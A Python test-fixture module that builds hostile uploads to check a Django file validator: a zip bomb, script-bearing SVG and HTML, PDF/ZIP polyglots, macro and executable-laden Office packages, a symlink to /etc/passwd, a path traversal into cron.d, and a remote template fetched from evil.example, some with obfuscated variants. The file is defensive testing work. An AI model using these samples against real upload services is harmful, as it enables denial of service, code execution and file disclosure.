"""Files as people send them, and as nobody should: made here, byte by byte."""

from __future__ import annotations

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

OFFICE = "application/vnd.openxmlformats-officedocument."
MAIN = {
    "pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml"),
    "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
}


def pdf(more: bytes = b"", after: bytes = b"") -> bytes:
    """Return a very small PDF."""
    body = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    return body + more + b"trailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n" + after


def office(
    ending: str = "pptx",
    *,
    parts: dict[str, bytes] | None = None,
    types: str = "",
    rels: str = "",
    comment: bytes = b"",
    without: str = "",
) -> bytes:
    """Return a small but real Office package, with whatever is put into it."""
    name, kind = MAIN[ending]
    listed = {
        "[Content_Types].xml": (
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            f'<Override PartName="/{name}" ContentType="{OFFICE}{kind}"/>{types}</Types>'
        ).encode(),
        "_rels/.rels": f'<?xml version="1.0"?><Relationships>{rels}</Relationships>'.encode(),
        name: b"<p:presentation/>" * 40,
        **(parts or {}),
    }
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        for part, data in listed.items():
            if part != without:
                package.writestr(part, data)
        package.comment = comment
    return made.getvalue()


def bomb() -> bytes:
    """Return a package of a quarter of a megabyte that would fill 250 MB."""
    return office(parts={f"ppt/media/{n}.bin": bytes(50 * 1024 * 1024) for n in range(5)})


def picture(kind: str = "JPEG", *, size: tuple[int, int] = (40, 30), exif: bool = False, after: bytes = b"") -> bytes:
    """Return a picture; with ``exif``, it says where it was taken and on which side it lies."""
    made, image = io.BytesIO(), Image.new("RGB", size, "teal")
    more = {}
    if exif:
        tags = Image.Exif()
        tags[0x0112] = 6  # turned by a quarter
        tags[0x010E] = "CANARY the ward on Elm Street"
        tags.get_ifd(0x8825)[2] = (47.0, 33.0, 41.0)
        more["exif"] = tags.tobytes()
    image.save(made, format=kind, **more)
    return made.getvalue() + after


def symlink() -> bytes:
    made = io.BytesIO(office())
    with zipfile.ZipFile(made, "a") as package:
        link = zipfile.ZipInfo("ppt/media/link.png")
        link.external_attr = 0o120777 << 16
        package.writestr(link, "/etc/passwd")
    return made.getvalue()


def broken(content: bytes) -> bytes:
    """Return the same file with bytes in its middle turned round."""
    middle = content.index(b"<p:") if b"<p:" in content else len(content) // 3
    return content[:middle] + bytes(255 - one for one in content[middle : middle + 8]) + content[middle + 8 :]


def sent(content: bytes, name: str = "slides.pdf") -> SimpleUploadedFile:
    """Return a file as a browser sends it."""
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(1)</script>"
OUTSIDE = '<Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'

# The same, written so that only a program that reads XML understands it, and with a harmless type where none is.
OUTSIDE_IN_CODES = OUTSIDE.replace("External", "Ext&#101;rnal").replace("Type=", "Type  =  ")
OUTSIDE_TWO_TYPES = OUTSIDE.replace("t.dotm", "t.dotm?Type='/image'")

# what it is -> (name, content, code of files.telling)
NASTY = {
    "SVG": ("drawing.svg", SVG, "unknown"),
    "SVG called a picture": ("drawing.png", SVG, "unknown"),
    "HTML": ("page.html", HTML, "unknown"),
    "HTML called PDF": ("slides.pdf", HTML, "unknown"),
    "HTML before a PDF": ("slides.pdf", HTML + pdf(), "unknown"),
    "a PDF with HTML behind it": ("slides.pdf", pdf(after=HTML), "two-in-one"),
    "a PDF that is a ZIP too": ("slides.pdf", pdf() + office(), "two-in-one"),
    "a PDF cut off": ("slides.pdf", pdf()[:60], "broken"),
    "a plain ZIP": ("slides.zip", office(without="[Content_Types].xml"), "unknown"),
    "a program": ("slides.pptx", b"MZ\x90\x00" + bytes(200), "unknown"),
    "an old PowerPoint, or one with a password": ("slides.ppt", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old-or-locked"),
    "macros": ("slides.pptx", office(parts={"ppt/vbaProject.bin": b"x"}), "macros"),
    "macros under another name": ("slides.pptx", office(types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'), "macros"),
    "a program inside": ("slides.pptx", office(parts={"ppt/embeddings/invoice.exe": b"MZ"}), "macros"),
    "a page inside": ("slides.pptx", office(parts={"ppt/media/a.html": HTML}), "macros"),
    "a template from elsewhere": ("letter.docx", office("docx", rels=OUTSIDE), "reaches-out"),
    "a template from elsewhere, in codes": ("letter.docx", office("docx", rels=OUTSIDE_IN_CODES), "reaches-out"),
    "a template from elsewhere that says it is a picture": ("letter.docx", office("docx", rels=OUTSIDE_TWO_TYPES), "reaches-out"),
    "macros in codes": ("slides.pptx", office(types='<Default Extension="bin" ContentType="application/vnd.ms-office.vba&#80;roject"/>'), "macros"),
    "a list that is no XML and takes hours to look through": ("slides.pptx", office(parts={"ppt/_rels/p.rels": b"<" + b"Relationship " * 150_000}), "broken"),
    "two kinds at once": ("slides.pptx", office(types=f'<Override PartName="/xl/workbook.xml" ContentType="{OFFICE}spreadsheetml.sheet.main+xml"/>'), "unknown"),
    "entities": ("slides.pptx", office(parts={"ppt/_rels/p.rels": b'<!DOCTYPE a [<!ENTITY b "c">]><Relationships/>'}), "broken"),
    "a way out of the folder": ("slides.pptx", office(parts={"../../etc/cron.d/x": b"x"}), "broken"),
    "a link to a file of the machine": ("slides.pptx", symlink(), "broken"),
    "something behind a package": ("slides.pptx", office(comment=HTML), "two-in-one"),
    "something before a package": ("slides.pptx", b"#!/bin/sh\n" + office(), "unknown"),
    "a package cut off": ("slides.pptx", office()[:-200], "broken"),
    "a package with a wrong sum": ("slides.pptx", broken(office(parts={"ppt/media/a.bin": bytes(range(256)) * 40})), "broken"),
    "a picture that is none": ("photo.png", b"\x89PNG\r\n\x1a\n" + bytes(300), "broken"),
    "a picture with too many dots": ("photo.png", picture("PNG", size=(60_000, 600)), "too-much-inside"),
}  # fmt: skip
